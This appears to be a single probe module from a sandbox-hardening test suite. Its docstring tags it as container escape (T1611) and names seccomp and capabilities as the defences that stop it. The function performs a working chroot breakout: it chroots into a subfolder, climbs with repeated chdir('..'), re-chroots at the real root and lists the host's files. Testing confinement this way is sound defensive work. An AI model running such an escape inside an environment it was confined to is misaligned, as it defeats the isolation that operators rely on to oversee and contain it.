"""Leave the root by chroot and a folder that lies outside of it.

gain: the host's files
attack: T1611
stopped by: seccomp, capabilities
unconfined: cell
"""

import os


def attempt(world):
    inner = f"{world['work']}/jail"
    os.makedirs(inner, exist_ok=True)
    os.chroot(inner)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return f"its root now holds {sorted(os.listdir('/'))[:4]}"
